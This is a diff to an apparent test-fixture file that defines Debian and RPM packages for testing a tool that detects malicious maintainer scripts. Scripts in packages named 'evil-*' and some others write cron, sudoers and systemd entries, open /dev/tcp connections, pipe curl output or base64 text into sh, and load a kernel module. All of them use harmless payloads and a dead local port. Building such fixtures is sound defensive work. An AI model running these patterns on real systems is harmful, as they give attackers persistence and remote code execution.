@@ -65,6 +65,16 @@ UNIT
 exit 0
 `;
 
+const sh = (...lines: string[]): string => `#!/bin/sh\nset -e\n${lines.join('\n')}\n`;
+
+/** Uses the tools that put programs, files and modes in the place of others, as a package may. */
+const overrides = sh(
+  'echo kept >/opt/kept',
+  'update-alternatives --install /opt/new-link new-pager /bin/cat 10 >/dev/null',
+  'dpkg-divert --package new-overrides --rename --divert /opt/kept.real --add /opt/kept >/dev/null',
+  'dpkg-statoverride --update --add root root 0750 /opt/kept.real',
+);
+
 /** Appends a line to a file at each run: the proof that it ran. */
 const marks = (file: string, more = ''): string =>
   `#!/bin/sh\nset -e\n: each run appends a line to ${file}, and no other script does\necho ran >>/opt/${file}\n${more}`;
@@ -98,8 +108,12 @@ export const debs: ReadonlyMap<string, Package> = new Map([
   // Learned in the first week.
   ...versions('editor', all(), all('#!/bin/sh\nset -e\n:\n'), { postinst: backdoor }),
   ...versions('viewer', all(), all('#!/bin/sh\nset -e\n: two\n')),
-  ...versions('vendor', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n')),
-  ...versions('library', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n')),
+  ...versions('vendor', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n'), {
+    postinst: sh('echo dHJ1ZQo= | base64 -d | sh'),
+  }),
+  ...versions('library', all(), all('#!/bin/sh\nset -e\n: two\n'), all('#!/bin/sh\nset -e\n: three\n'), {
+    postinst: sh("echo '0 4 * * * root true' >/etc/cron.d/library"),
+  }),
   ...versions('asking', asks('asking'), asks('asking')),
   ...withUnit(versions('service', service('service'), service('service'))),
   ...versions('fleet', all()),
@@ -110,6 +124,17 @@ export const debs: ReadonlyMap<string, Package> = new Map([
   ...versions('copied', all(copied)),
   ...versions('late', all(), all('#!/bin/sh\nset -e\n: late\n')),
   ...versions('same-version', all()),
+  // Each script has a line of its own, so that it is recognised by its lines.
+  ...versions('reads', {
+    preinst: marks('sourced.ran'),
+    postinst: marks('redirected.ran'),
+    prerm: marks('piped.ran'),
+    postrm: marks('as-text.ran'),
+  }),
+  ...versions('replaced', all()),
+  ...versions('restored', all()),
+  ...versions('fixable', all()),
+  ...versions('fixed', all(), all()),
   ...versions('marked', { postinst: marks('marked.ran') }),
   ...versions('short', { postinst: marks('short.ran') }),
   // New in the second week.
@@ -120,6 +145,25 @@ export const debs: ReadonlyMap<string, Package> = new Map([
   ...versions('new-asking', asks('new-asking')),
   ...versions('new-fleet', all()),
   ...versions('from-repository', all()),
+  ...versions('cached', all()),
+  ...['fleet-apt', 'python', 'options', 'settings', 'forced', 'namespace', 'environment'].flatMap((name) =>
+    versions(`new-${name}`, all()),
+  ),
+  ...versions('new-overrides', { postinst: overrides }),
+  ...versions('new-text', { postinst: sh("echo 'for more: wget http://127.0.0.1:9/more.txt, and read it'") }),
+  [
+    'new-ships_1',
+    {
+      name: 'new-ships',
+      version: '1',
+      scripts: all(),
+      conffiles: {
+        '/etc/systemd/system/new-ships.service': '[Service]\nExecStart=/bin/true\n',
+        '/etc/cron.d/new-ships': '0 4 * * * root true\n',
+        '/etc/sudoers.d/new-ships': '# no rule\n',
+      },
+    },
+  ],
   // Installed by attackers.
   ...[
     ...[
@@ -132,13 +176,28 @@ export const debs: ReadonlyMap<string, Package> = new Map([
       'by-renamed',
       'by-renamed-bare',
     ],
-    ...['by-hook', 'by-session', 'inner', 'by-tar'],
+    ...['by-hook', 'by-session', 'inner', 'by-tar', 'by-at', 'by-anacron', 'by-inline', 'by-perl', 'by-own-database'],
+    ...['by-cover', 'by-namespace', 'by-cache', 'unauthenticated', 'insecure', 'no-debsig'],
   ].flatMap((name) => versions(`evil-${name}`, name.endsWith('-bare') ? {} : { postinst: quiet })),
   ...versions('evil-marked', { postinst: marks('evil.ran', 'sleep 0.2\n') }),
   ...versions('evil-detached', {
     postinst: '#!/bin/sh\n( setsid sh -c "sleep 0.5; dpkg -i $DEBS/evil-inner_1.deb; :" >/dev/null 2>&1 & )\nexit 0\n',
   }),
   ...versions('evil-module', { postinst: '#!/bin/sh\nset -e\ninsmod /opt/module.ko\nexit 0\n' }),
+  ...versions('evil-in-bash', { postinst: '#!/bin/bash\nset -e\nexit 0\n' }),
+  ...versions('evil-unit', {
+    postinst: sh("printf '[Service]\\nExecStart=/bin/true\\n' >/etc/systemd/system/evil-unit.service"),
+  }),
+  ...versions('evil-job', { postinst: sh("echo '0 4 * * * root true' >/etc/cron.d/evil-job") }),
+  ...versions('evil-sudo', { postinst: sh("echo '# no rule' >/etc/sudoers.d/evil-sudo") }),
+  ...versions('evil-background', { postinst: sh('nohup sleep 0.5 >/dev/null 2>&1 &') }),
+  // Nothing listens at this port.
+  ...versions('evil-device', { postinst: '#!/bin/bash\n(exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null || true\n' }),
+  ...versions('evil-download', { postinst: sh('curl -fsS http://127.0.0.1:9/x 2>/dev/null | sh || true') }),
+  ...versions('evil-connection', {
+    postinst: sh(`python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9), 1)' 2>/dev/null || true`),
+  }),
+  ['cached_1_other', { name: 'cached', version: '1', scripts: all(sh('/bin/true planted')) }],
   [
     'same-version_1_other',
     { name: 'same-version', version: '1', scripts: all('#!/bin/sh\nset -e\n/bin/true planted\n') },
@@ -151,14 +210,17 @@ export const rpms: ReadonlyMap<string, string> = new Map([
   ['rpm-two', ':'],
   ['rpm-three', 'sleep 0.05'],
   ['rpm-vendor', ':'],
+  ['rpm-vendor-two', ':'],
   ['rpm-evil', ':'],
   ['rpm-marked', 'echo ran >>/opt/rpm-marked.ran; sleep 0.2'],
   ['rpm-detached', '( setsid /usr/bin/sleep 0.3 >/dev/null 2>&1 & )'],
 ]);
 
-/** The debs in the scenarios' repository, by file name, at each of its three states. */
-export const repository: Readonly<Record<1 | 2 | 3, readonly string[]>> = {
+/** The debs in the scenarios' repository, by file name, at each of its states. */
+export const repository: Readonly<Record<string, readonly string[]>> = {
   1: ['library_1', 'service_1'],
   2: ['library_2', 'service_2', 'from-repository_1'],
   3: ['library_3'],
+  4: ['library_4'],
+  5: ['cached_1'],
 };
